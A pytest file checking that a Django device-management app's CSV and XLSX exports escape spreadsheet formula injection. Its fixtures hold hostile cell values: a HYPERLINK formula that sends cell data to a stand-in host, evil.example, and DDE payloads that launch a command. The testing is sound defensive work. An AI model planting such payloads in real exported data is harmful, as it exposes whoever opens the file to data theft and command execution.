"""CSV/XLSX exports are escaped against spreadsheet formula injection (CWE-1236): a text cell
starting with = + - @ tab or CR is written with a leading quote, numbers stay numbers, and an
exported device file imports back to the same values. Checked on the device export (API and
admin), a generic list export, the telemetry CSV export and an admin export of system logs."""

from __future__ import annotations

import copy
import csv
import io
from decimal import Decimal

import openpyxl
import pytest
import tablib
from django.core.files.uploadedfile import SimpleUploadedFile

from tests.telemetry.backend_suite import point
from tests.telemetry.conftest import BASE, SENSOR
from webapp.core.spreadsheet import (
    escape_cell,
    escape_dataset,
    unescape_cell,
    unescape_dataset,
)
from webapp.devices.models import Device

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("commit_hooks")]

# Values a device's owner (or a device, for telemetry) may write, meant to run in the
# spreadsheet of whoever opens the export.
HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "description": "+1+cmd|' /C calc'!A0",
    "address": "@SUM(1+1)*cmd|' /C calc'!A0",
    "fw_version": "-2+3+cmd|' /C calc'!A0",
    "sw_version": "\t=1+1",
}


def test_the_helper_escapes_text_and_leaves_numbers():
    for text in ["=1+1", "+x", "-x", "@x", "\t=x", "\r=x", "-", "-2+3", "'=x", "''+x"]:
        escaped = escape_cell(text)
        assert escaped == "'" + text and unescape_cell(escaped) == text
    for value in [-3.5, 0, -7, Decimal("-1.25"), True, None, "-3.5", "+12", "1e-3", "plain",
                  "'quoted", " =not-first", ""]:
        assert escape_cell(value) == value and unescape_cell(escape_cell(value)) == value
    data = tablib.Dataset(["=a", -3.5, "ok"], headers=["=h", "n", "t"])
    escaped = escape_dataset(data)
    assert escaped.headers == ["'=h", "n", "t"] and list(escaped[0]) == ["'=a", -3.5, "ok"]
    back = unescape_dataset(escaped)
    assert back.headers == data.headers and list(back[0]) == list(data[0])


@pytest.fixture
def hostile_device(api, device):
    # Stored as given (the API would trim the leading tab).
    Device.objects.filter(pk=device.pk).update(**HOSTILE, latitude=Decimal("-12.5"),
                                               longitude=Decimal("-0.125"), tags={"k": "=v"})
    return Device.objects.get(identifier="dev-1")


def test_device_csv_export_is_escaped_and_imports_back(api, hostile_device):
    exported = api.get("/api/v1/devices/export/?file_format=csv")
    assert exported.status_code == 200
    row = next(csv.DictReader(io.StringIO(exported.content.decode())))
    for column, value in HOSTILE.items():
        assert row[column] == "'" + value, column
    # Negative coordinates are numbers, not formulas: written as they are.
    assert Decimal(row["latitude"]) == Decimal("-12.5") and row["longitude"][0] == "-"
    assert row["tags"] == '{"k":"=v"}' and row["identifier"] == "dev-1"

    Device.objects.filter(pk=hostile_device.pk).update(name="changed", address="changed")
    back = api.post("/api/v1/devices/import/", {
        "file": SimpleUploadedFile("devices.csv", exported.content)}, format="multipart")
    assert back.status_code == 201, back.json()
    device = Device.objects.get(pk=hostile_device.pk)
    assert {column: getattr(device, column) for column in HOSTILE} == HOSTILE
    assert device.latitude == Decimal("-12.5")


def test_device_xlsx_export_holds_text_not_formulas_and_imports_back(api, hostile_device):
    exported = api.get("/api/v1/devices/export/?file_format=xlsx")
    assert exported.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(exported.content)).active
    headers = [c.value for c in sheet[1]]
    cells = dict(zip(headers, sheet[2], strict=True))
    for column, value in HOSTILE.items():
        assert cells[column].data_type == "s", column  # "f" would be a formula
        assert cells[column].value == "'" + value

    Device.objects.filter(pk=hostile_device.pk).update(name="changed")
    back = api.post("/api/v1/devices/import/", {
        "file": SimpleUploadedFile("devices.xlsx", exported.content)}, format="multipart")
    assert back.status_code == 201, back.json()
    device = Device.objects.get(pk=hostile_device.pk)
    assert {column: getattr(device, column) for column in HOSTILE} == HOSTILE


def test_admin_device_export_and_import_escape_the_same_way(client, admin_user, api,
                                                            hostile_device):
    client.force_login(admin_user)
    exported = client.post("/admin/devices/device/export/", {
        "format": "0", "resource": "0", "export_items": [],
        **{f"deviceresource_{f}": "on" for f in ("identifier", "name", "product",
                                                   "address", "latitude")}})
    assert exported.status_code == 200, exported.content[:500]
    row = next(csv.DictReader(io.StringIO(exported.content.decode())))
    assert row["name"] == "'" + HOSTILE["name"] and row["address"] == "'" + HOSTILE["address"]
    assert Decimal(row["latitude"]) == Decimal("-12.5")

    Device.objects.filter(pk=hostile_device.pk).update(name="changed")
    page = client.post("/admin/devices/device/import/", {
        "resource": "0", "format": "0",
        "import_file": SimpleUploadedFile("devices.csv", exported.content)})
    confirm = page.context.get("confirm_form")
    assert confirm is not None, page.content[:2000]
    client.post("/admin/devices/device/process_import/", confirm.initial, follow=True)
    assert Device.objects.get(pk=hostile_device.pk).name == HOSTILE["name"]


def test_generic_list_export_escapes_text(api):
    """`<list>/export/` of every scoped ViewSet, here the device groups, as CSV and XLSX."""
    assert api.post("/api/v1/device-groups/", {"name": "-1+1", "description": "-42"},
                    format="json").status_code == 201
    rows = list(csv.DictReader(io.StringIO(
        api.get("/api/v1/device-groups/export/?file_format=csv").content.decode())))
    assert (rows[0]["name"], rows[0]["description"]) == ("'-1+1", "-42")
    sheet = openpyxl.load_workbook(io.BytesIO(
        api.get("/api/v1/device-groups/export/?file_format=xlsx").content)).active
    name_column = [c.value for c in sheet[1]].index("name")
    assert sheet[2][name_column].value == "'-1+1" and sheet[2][name_column].data_type == "s"


def test_telemetry_csv_export_escapes_text_and_keeps_negative_numbers(api, admin_user):
    from webapp.devices import actions as device_actions
    from webapp.products import actions as product_actions
    from webapp.telemetry.backends import get_backend

    sensor = product_actions.create_product(acting_user=admin_user, data=copy.deepcopy(SENSOR))
    device_actions.create_device(acting_user=admin_user, product=sensor, identifier="d1")
    get_backend().write([
        point("d1", BASE, temperature=-3.5, humidity=-0, label="=cmd()"),
        point("d1", BASE + 1000, temperature=-40.0, humidity=5, label="-2+3"),
        point("d1", BASE + 2000, temperature=21.25, humidity=6, label="-3.5"),
    ])
    from datetime import UTC, datetime

    def at(ms: int) -> str:
        return datetime.fromtimestamp(ms / 1000, tz=UTC).isoformat().replace("+00:00", "Z")

    response = api.get("/api/v1/telemetry/export/", {
        "devices": "d1", "service": "env", "property": "temperature,label",
        "start": at(BASE), "end": at(BASE + 60_000)})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0] == ["device", "ts", "temperature", "label"]
    assert [r[2:] for r in rows[1:]] == [["-3.5", "'=cmd()"], ["-40.0", "'-2+3"],
                                         ["21.25", "-3.5"]]


def test_admin_export_of_system_logs_is_escaped(client, admin_user):
    """An admin export through django-import-export's own admin (settings
    IMPORT_EXPORT_FORMATS): the operation log, with a user name chosen to run."""
    from webapp.system.models import OperationLog

    OperationLog.objects.create(username="=HYPERLINK(\"http://evil\")", source="api",
                                action="create", app_label="x", model="y",
                                object_repr="@SUM(1)")
    client.force_login(admin_user)
    for index, reader in ((0, "csv"), (1, "xlsx")):
        response = client.post("/admin/system/operationlog/export/", {
            "format": str(index), "resource": "0", "export_items": [],
            **{f"operationlogresource_{f}": "on" for f in ("username", "object_repr")}})
        assert response.status_code == 200, response.content[:500]
        if reader == "csv":
            row = next(csv.DictReader(io.StringIO(response.content.decode())))
            values = (row["username"], row["object_repr"])
        else:
            sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
            cells = list(sheet[2])
            assert all(c.data_type == "s" for c in cells)
            values = tuple(c.value for c in cells)
        assert values == ("'=HYPERLINK(\"http://evil\")", "'@SUM(1)"), reader
